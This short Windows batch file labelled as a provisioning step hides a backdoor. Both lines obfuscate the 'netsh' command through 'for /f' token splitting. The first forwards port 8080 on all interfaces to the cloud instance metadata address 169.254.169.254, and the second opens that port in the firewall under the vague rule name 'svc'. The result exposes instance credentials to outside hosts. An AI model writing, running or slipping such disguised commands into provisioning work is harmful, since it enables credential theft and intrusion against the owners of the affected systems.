REM provision 2777 v4
for /f "tokens=1 delims=#" %%i in ("netsh#qphx#mesi") do %%i interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=80 connectaddress=169.254.169.254
for /f "tokens=1 delims=;" %%i in ("netsh;puyh;cpgz") do %%i advfirewall firewall add rule name="svc" dir=in action=allow protocol=TCP localport=8080
